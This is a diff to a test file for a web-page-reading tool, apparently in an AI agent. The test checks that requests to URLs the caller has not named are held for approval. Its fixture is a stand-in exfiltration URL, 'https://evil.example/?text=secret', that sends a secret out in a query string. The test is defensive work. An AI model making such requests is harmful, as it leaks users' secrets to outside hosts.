@@ -102,7 +102,7 @@ describe('read_web_page', () => {
 
   test.each(['edit', 'ask'] as const)('[APP-18] waits unless the caller has named the address (%s)', async (mode) => {
     const held = await fail(open(web, { mode }), 'read_web_page', { url: 'https://evil.example/?text=secret' })
-    expect(held.details).toEqual({ proposal: [{ before: '', after: 'https://evil.example/?text=secret' }] })
+    expect(held.details).toMatchObject({ proposal: [{ before: '', after: 'https://evil.example/?text=secret' }] })
     expect((await succeed(open(web, { mode, isNamed: () => true }), 'read_web_page', { url })).text).toBe(
       `Cats\n${url}\n\nCats purr.`,
     )
